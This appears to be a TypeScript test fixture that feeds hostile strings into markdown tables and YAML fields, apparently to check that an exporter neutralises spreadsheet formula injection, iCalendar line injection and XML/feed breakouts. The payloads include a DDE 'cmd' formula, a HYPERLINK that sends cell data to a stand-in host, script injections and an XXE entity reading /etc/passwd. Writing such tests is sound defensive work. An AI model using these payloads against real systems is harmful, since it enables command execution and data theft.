import type { HostileCase } from '../hostile-case.ts';

/** What spreadsheets would calculate, and lines that calendars and feeds would take for their own. */
export const cells: readonly string[] = [
  `=cmd|' /C calc'!A0`,
  '=HYPERLINK("https://far.example/?"&A1,"here")',
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1+1)*cmd',
  '\t=1+1',
  ' =1+1',
  '"=1+1',
  "'=1+1",
  '＝1+1',
  '%0A=1+1',
  'a;=1+1',
  'a,=1+1',
  'END:VEVENT',
  'BEGIN:VALARM',
  'a\\nEND:VCALENDAR',
  'a\\,b\\;c',
  'ATTACH:https://far.example/',
  ']]></title><script>top.sprung=1</script>',
  '<!ENTITY a SYSTEM "file:///etc/passwd">&a;',
  '&lt;script&gt;top.sprung=1&lt;/script&gt;',
  '<?xml-stylesheet href="https://far.example/a.xsl"?>',
  '</content></entry><entry>',
];

const action = (text: string) => `## Action Items

| Action | Type | Owner | Priority | Target Date | Status | Completed | Success Criteria |
|--------|------|-------|----------|-------------|--------|-----------|------------------|
| ${text.replaceAll('|', '\\|')} | Preventive | ${text.replaceAll('|', '\\|')} | High | 2026-03-20 | Pending | | ${text.replaceAll('|', '\\|')} |`;

export const cellCases: readonly HostileCase[] = cells.flatMap((cell) => [
  { name: `${JSON.stringify(cell)} as an action`, markdown: `Nothing.\n\n${action(cell)}` },
  { name: `${JSON.stringify(cell)} as a title`, yaml: `title: ${JSON.stringify(cell)}` },
  { name: `${JSON.stringify(cell)} as a system`, yaml: `systems: [${JSON.stringify(cell)}]` },
  { name: `${JSON.stringify(`a\n${cell}`)} as a title of two lines`, yaml: `title: ${JSON.stringify(`a\r\n${cell}`)}` },
]);
